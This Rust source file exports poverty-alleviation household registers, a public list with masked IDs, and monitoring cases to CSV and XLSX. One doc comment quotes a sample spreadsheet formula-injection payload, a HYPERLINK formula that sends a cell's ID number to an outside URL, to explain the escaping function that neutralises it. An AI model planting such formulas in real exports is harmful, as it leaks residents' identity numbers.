//! Exported households as a sheet (the staff register or the public list) written as CSV with a
//! BOM or as XLSX with ID numbers kept as text.
use super::*;

pub(super) fn yes_no(b: bool) -> String {
    if b { "是" } else { "否" }.to_string()
}

pub(super) fn date(d: Option<chrono::NaiveDate>) -> String {
    d.map(|d| d.format("%Y-%m-%d").to_string())
        .unwrap_or_default()
}

/// One cell of the register template for member `m` of household `h`, with the enrolment
/// running for that member (`aid`).
pub fn register_cell(
    h: &Household,
    m: &Member,
    aid: Option<&AssistanceEntry>,
    col: Col,
    place: (&str, &str),
) -> String {
    let hs = h.housing.as_ref();
    match col {
        Col::Township => place.1.to_string(),
        Col::Village => place.0.to_string(),
        Col::VillageCode => h.village_code.clone(),
        Col::GroupNo => h.group_no.map(|g| g.to_string()).unwrap_or_default(),
        Col::HeadId => h
            .head()
            .and_then(|m| m.id_number.clone())
            .unwrap_or_default(),
        Col::Address => h.address.clone(),
        Col::Phone => h.phone.clone().unwrap_or_default(),
        Col::Standard => h.standard.zh().into(),
        Col::Attribute => h.attribute.zh().into(),
        Col::MainCause => h.causes.first().map(|c| c.zh()).unwrap_or_default().into(),
        Col::OtherCauses => h
            .causes
            .iter()
            .skip(1)
            .map(|c| c.zh())
            .collect::<Vec<_>>()
            .join("、"),
        Col::IdentifiedOn => date(Some(h.identified_on)),
        Col::Status => h.status.zh().into(),
        Col::ExitedOn => date(h.exited_on),
        Col::RelapsedOn => date(h.relapsed_on),
        Col::Name => m.name.clone(),
        Col::Sex => m.sex.zh().into(),
        Col::IdNumber => m.id_number.clone().unwrap_or_default(),
        Col::DisabilityCert => m.disability_cert.clone().unwrap_or_default(),
        Col::BirthDate => date(Some(m.birth_date)),
        Col::Relation => m.relation.zh().into(),
        Col::Ethnicity => m.ethnicity.clone(),
        Col::Education => m.education.zh().into(),
        Col::StudentStatus => m.student_status.zh().into(),
        Col::Health => m.health.zh().into(),
        Col::Labour => m.labour.zh().into(),
        Col::MigrantMonths => m.migrant_months.to_string(),
        Col::MedicalInsured => yes_no(m.medical_insured),
        Col::PensionInsured => yes_no(m.pension_insured),
        Col::Assistance => aid.map(|a| a.kind.zh().to_string()).unwrap_or_default(),
        Col::AssistanceCovers => aid
            .map(|a| {
                let covers = if a.member_id.is_some() {
                    Covers::Member
                } else {
                    Covers::Household
                };
                covers.labels().0.to_string()
            })
            .unwrap_or_default(),
        Col::AssistanceSince => date(aid.map(|a| a.start_on)),
        Col::AssistanceAmount => aid
            .map(|a| match a.kind {
                AssistanceKind::Temporary => a.lump_sum,
                AssistanceKind::Dibao | AssistanceKind::Tekun => a.monthly_amount,
            })
            .map(|yuan| yuan.to_string())
            .unwrap_or_default(),
        Col::AssistanceAgency => aid.map(|a| a.agency.clone()).unwrap_or_default(),
        Col::HasElectricity => yes_no(h.has_electricity),
        Col::HasSafeWater => yes_no(h.has_safe_water),
        Col::HasRoadAccess => yes_no(h.has_road_access),
        Col::Structure => hs.map(|s| s.structure.zh().to_string()).unwrap_or_default(),
        Col::AreaM2 => hs.map(|s| s.area_m2.to_string()).unwrap_or_default(),
        Col::BuiltYear => hs
            .and_then(|s| s.built_year)
            .map(|y| y.to_string())
            .unwrap_or_default(),
        Col::DangerGrade => hs
            .and_then(|s| s.danger_grade)
            .map(|g| g.zh().to_string())
            .unwrap_or_default(),
        Col::RenovatedOn => date(hs.and_then(|s| s.renovated_on)),
        Col::Relocated => hs.map(|s| yes_no(s.relocated)).unwrap_or_default(),
        Col::RelocatedOn => date(hs.and_then(|s| s.relocated_on)),
    }
}

/// A sheet to write: header and rows of text.
pub struct Sheet {
    /// The worksheet's name (XLSX).
    pub name: &'static str,
    pub header: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

/// The register rows (template columns, one row per active member) of an export.
pub fn register_sheet(e: &Exported) -> Sheet {
    let mut rows = Vec::new();
    for (i, h) in e.households.iter().enumerate() {
        let place = e
            .places
            .get(&h.village_code)
            .map(|(v, t)| (v.as_str(), t.as_str()))
            .unwrap_or(("", ""));
        let aid = e.assistance.get(i);
        for (j, m) in h.members.iter().enumerate().filter(|(_, m)| m.active) {
            let aid = aid.and_then(|a| a.get(j)).and_then(Option::as_ref);
            rows.push(
                Col::ALL
                    .iter()
                    .map(|&c| register_cell(h, m, aid, c, place))
                    .collect(),
            );
        }
    }
    Sheet {
        name: "建档立卡",
        header: Col::ALL.iter().map(|c| c.zh().to_string()).collect(),
        rows,
    }
}

/// The public list: one row per household, only what the public pages show (ID masked; no
/// phone, address, health or bank details).
pub fn public_sheet(e: &Exported) -> Sheet {
    let header = [
        "乡镇",
        "行政村",
        "村民小组",
        "户主姓名",
        "户主身份证号",
        "家庭人口",
        "贫困户属性",
        "主要致贫原因",
        "脱贫状态",
        "识别年份",
        "脱贫年份",
    ];
    let year = |d: Option<chrono::NaiveDate>| {
        d.map(|d| chrono::Datelike::year(&d).to_string())
            .unwrap_or_default()
    };
    let rows = e
        .households
        .iter()
        .map(|h| {
            let (village, township) = e.places.get(&h.village_code).cloned().unwrap_or_default();
            let head = h.head();
            vec![
                township,
                village,
                h.group_no.map(|g| g.to_string()).unwrap_or_default(),
                head.map(|m| m.name.clone()).unwrap_or_default(),
                head.and_then(|m| m.id_number.as_deref())
                    .map(mask_id)
                    .unwrap_or_default(),
                h.members.iter().filter(|m| m.active).count().to_string(),
                h.attribute.zh().into(),
                h.causes.first().map(|c| c.zh()).unwrap_or_default().into(),
                h.status.zh().into(),
                year(Some(h.identified_on)),
                year(h.exited_on),
            ]
        })
        .collect();
    Sheet {
        name: "贫困户",
        header: header.iter().map(|s| s.to_string()).collect(),
        rows,
    }
}

/// CSV in UTF-8 with a BOM (so Excel reads it as UTF-8).
/// The monitoring desk's case list: one row per case, as the desk shows it (staff only).
pub fn case_sheet(rows: &[crate::model::monitoring::case::CaseRow]) -> Sheet {
    use crate::i18n::Locale;
    use crate::model::codes::Label;
    let lang = Locale::zh;
    let date = |d: Option<chrono::NaiveDate>| d.map(|d| d.to_string()).unwrap_or_default();
    let header = [
        "案件编号",
        "户编号",
        "户主",
        "行政村",
        "监测对象类别",
        "风险类型",
        "线索来源",
        "所处环节",
        "线索日期",
        "办理期限",
        "是否超期",
        "暂不标注日期",
    ];
    Sheet {
        name: "监测对象",
        header: header.iter().map(|s| s.to_string()).collect(),
        rows: rows
            .iter()
            .map(|r| {
                vec![
                    r.id.to_string(),
                    r.household_id.to_string(),
                    r.head_name.clone(),
                    r.village_name.clone(),
                    r.category.label(lang).to_string(),
                    r.risks
                        .iter()
                        .map(|k| k.label(lang))
                        .collect::<Vec<_>>()
                        .join("、"),
                    r.channel.label(lang).to_string(),
                    r.stage.label(lang).to_string(),
                    r.raised_on.to_string(),
                    date(r.due_on),
                    if r.overdue { "是" } else { "否" }.to_string(),
                    date(r.held_on),
                ]
            })
            .collect(),
    }
}

/// A CSV cell a spreadsheet will not run: a text starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return would be taken as a formula (`=HYPERLINK("http://…?d="&E2, …)` sends the ID
/// in E2 away), so it gets a leading apostrophe, which Excel and WPS show as plain text. Numbers
/// (`-5`, `+86…`) stay as they are. The import reader drops that apostrophe again, so an exported
/// file re-imports unchanged.
pub fn inert_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && cell.parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

pub fn to_csv(sheet: &Sheet) -> Vec<u8> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    {
        let mut w = csv::Writer::from_writer(&mut out);
        let _ = w.write_record(&sheet.header);
        for r in &sheet.rows {
            let cells: Vec<_> = r.iter().map(|c| inert_cell(c)).collect();
            let _ = w.write_record(cells.iter().map(|c| c.as_bytes()));
        }
        let _ = w.flush();
    }
    out
}

/// XLSX, every cell text (ID numbers stay exact), a bold frozen header, and — for the template —
/// a drop-down list on each enumerated column and a second sheet describing every column.
pub fn to_xlsx(sheet: &Sheet, template: bool) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use rust_xlsxwriter::{DataValidation, Format, Workbook};
    let mut book = Workbook::new();
    let bold = Format::new().set_bold();
    let text = Format::new().set_num_format("@");
    {
        // Rows are written in order: stream them (inline strings, no shared-string table).
        let ws = book.add_worksheet_with_constant_memory()?;
        ws.set_name(sheet.name)?;
        for (c, h) in sheet.header.iter().enumerate() {
            let c = c as u16;
            ws.write_string_with_format(0, c, h, &bold)?;
            ws.set_column_width(c, (h.chars().count() as f64 * 2.2).max(10.0))?;
            ws.set_column_format(c, &text)?;
        }
        ws.set_freeze_panes(1, 0)?;
        for (r, row) in sheet.rows.iter().enumerate() {
            for (c, v) in row.iter().enumerate() {
                if !v.is_empty() {
                    ws.write_string((r + 1) as u32, c as u16, v)?;
                }
            }
        }
        if template {
            for (c, col) in Col::ALL.iter().enumerate() {
                let allowed: Vec<&str> = col.allowed().iter().map(|a| a.0).collect();
                if !allowed.is_empty() && col.kind() == crate::model::transfer::Kind::Choice
                    || col.kind() == crate::model::transfer::Kind::YesNo
                {
                    let dv = DataValidation::new().allow_list_strings(&allowed)?;
                    ws.add_data_validation(1, c as u16, 100_000, c as u16, &dv)?;
                }
            }
        }
    }
    if template {
        let ws = book.add_worksheet();
        ws.set_name("填写说明")?;
        for (c, h) in ["列名", "英文列名", "必填", "可填写的值"]
            .iter()
            .enumerate()
        {
            ws.write_string_with_format(0, c as u16, *h, &bold)?;
        }
        for (r, col) in Col::ALL.iter().enumerate() {
            let r = (r + 1) as u32;
            ws.write_string(r, 0, col.zh())?;
            ws.write_string(r, 1, col.en())?;
            ws.write_string(r, 2, if col.required() { "是" } else { "" })?;
            ws.write_string(r, 3, col.note(false))?;
        }
        ws.set_column_width(0, 22)?;
        ws.set_column_width(1, 24)?;
        ws.set_column_width(3, 90)?;
    }
    book.save_to_buffer()
}
